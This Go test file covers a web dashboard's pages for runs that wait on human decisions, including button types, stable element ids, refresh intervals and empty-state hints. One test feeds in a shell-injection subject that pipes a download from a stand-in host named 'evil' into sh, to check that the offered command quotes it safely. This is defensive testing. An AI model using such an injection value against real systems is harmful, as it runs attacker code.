package web

import (
	"bytes"
	"io/fs"
	"regexp"
	"strings"
	"testing"

	"golang.org/x/net/html"

	"repute/web/assets"
	"repute/web/failure"
	"repute/web/format"
)

// render returns the elements of a page that a template makes from a body.
func render(t *testing.T, name string, body any) (elements []*html.Node) {
	t.Helper()
	s := new(site)
	var err error
	if s.assets, err = assets.Read(files, "static"); err != nil {
		t.Fatal(err)
	}
	templates, err := s.readTemplates()
	if err != nil {
		t.Fatal(err)
	}
	var out bytes.Buffer
	if err := templates[name].ExecuteTemplate(&out, "layout",
		&page{Path: prefix + "/" + name, Body: body}); err != nil {
		t.Fatal(err)
	}
	root, err := html.Parse(&out)
	if err != nil {
		t.Fatal(err)
	}
	for n := range root.Descendants() {
		if n.Type == html.ElementNode {
			elements = append(elements, n)
		}
	}
	return elements
}

// attr returns an attribute of an element; "" where it has none of the name.
func attr(n *html.Node, name string) string {
	for _, a := range n.Attr {
		if a.Key == name {
			return a.Val
		}
	}
	return ""
}

// textIn returns the text of an element.
func textIn(n *html.Node) string {
	var out strings.Builder
	for d := range n.Descendants() {
		if d.Type == html.TextNode {
			out.WriteString(d.Data)
		}
	}
	return out.String()
}

// waitingRun returns the elements of the page of a run with decisions that wait.
func waitingRun(t *testing.T, subjects ...string) []*html.Node {
	t.Helper()
	r := &run{runLine: runLine{ID: "run1", RootID: "run1", TaskID: "task1", Status: "running"}}
	for _, s := range subjects {
		r.Awaited = append(r.Awaited, awaited{Subject: s})
	}
	return render(t, "run", guarded{Live: true, Shown: r})
}

// TestEnterDecidesNothing: no button of a decision submits its form, so that the Enter key in the reason cannot
// approve.
func TestEnterDecidesNothing(t *testing.T) {
	t.Parallel()
	buttons := 0
	for _, n := range waitingRun(t, "policy", "pay/1") {
		if n.Data != "button" || attr(n, "name") != "approved" {
			continue
		}
		if buttons++; attr(n, "type") != "button" {
			t.Errorf("%s has the type %q", textIn(n), attr(n, "type"))
		}
	}
	if buttons != 4 {
		t.Errorf("%d buttons of two decisions", buttons)
	}
}

// TestPageOffersSafeCommands: the commands of a decision quote its whole subject, and are left out where that is
// unsafe.
func TestPageOffersSafeCommands(t *testing.T) {
	t.Parallel()
	long := strings.Repeat("step ", 400)
	for subject, want := range map[string]string{
		"policy":                  "--subject policy --orchestrator",
		"a';curl evil|sh;'/pay:1": `--subject 'a'\'';curl evil|sh;'\''/pay:1' --orchestrator`,
		long:                      "--subject '" + long + "' --orchestrator",
		"a\x1b[201~b":             "No command is offered",
	} {
		for _, n := range waitingRun(t, subject) {
			if n.Data != "details" || attr(n, "id") != "line-"+format.Anchor(subject) {
				continue
			}
			if got := textIn(n); !strings.Contains(got, want) {
				t.Errorf("%.80q: no %.80q in %s", subject, want, got)
			}
			want = ""
		}
		if want != "" {
			t.Errorf("%.80q: the page has no commands", subject)
		}
	}
}

// TestDecisionsKeepTheirIDs: the ids of a decision's elements do not change when the decision before it is answered.
func TestDecisionsKeepTheirIDs(t *testing.T) {
	t.Parallel()
	idsOf := func(elements []*html.Node) map[string]bool {
		ids := map[string]bool{}
		for _, n := range elements {
			id := attr(n, "id")
			if ids[id] && id != "" {
				t.Errorf("two elements have the id %s", id)
			}
			ids[id] = true
		}
		return ids
	}
	both, second := idsOf(waitingRun(t, "first", "<second>")), idsOf(waitingRun(t, "<second>"))
	for _, kind := range []string{"decision-", "awaited-", "answer-", "reason-", "approve-", "reject-", "line-"} {
		if id := kind + format.Anchor("<second>"); !both[id] || !second[id] {
			t.Errorf("%s is missing", id)
		}
		if second[kind+format.Anchor("first")] {
			t.Errorf("%s of the first decision is still there", kind)
		}
	}
}

// TestExpensivePagesAreAskedForRarely: each page says after how many seconds its script asks for it again.
func TestExpensivePagesAreAskedForRarely(t *testing.T) {
	t.Parallel()
	for name, want := range map[string]string{"tasks": "3", "runs": "3", "run": "3", "treasury": "15",
		"operations": "30", "runtime": "30"} {
		got := ""
		var body any = guarded{Live: true, Why: &failure.Text{}}
		if name == "runtime" {
			body = runtimePage{guarded: guarded{Live: true, Why: &failure.Text{}}}
		}
		for _, n := range render(t, name, body) {
			if attr(n, "id") == "work" {
				got = attr(n, "data-every")
			}
		}
		if got != want {
			t.Errorf("%s: every %q seconds, want %s", name, got, want)
		}
	}
}

// TestEmptyPartsSayWhatToDo: wherever a page shows nothing, it says what a reader can do next.
func TestEmptyPartsSayWhatToDo(t *testing.T) {
	t.Parallel()
	names, err := fs.Glob(files, "templates/*.html")
	if err != nil {
		t.Fatal(err)
	}
	parts := 0
	for _, name := range names {
		text, err := files.ReadFile(name)
		if err != nil {
			t.Fatal(err)
		}
		for _, part := range regexp.MustCompile(`template "empty" \((.*?)\)\}\}`).FindAllStringSubmatch(string(text), -1) {
			if parts++; !strings.Contains(part[1], `"next" "`) {
				t.Errorf("%s: %s", name, part[1])
			}
		}
	}
	if parts < 20 {
		t.Errorf("%d empty parts were found", parts)
	}
}
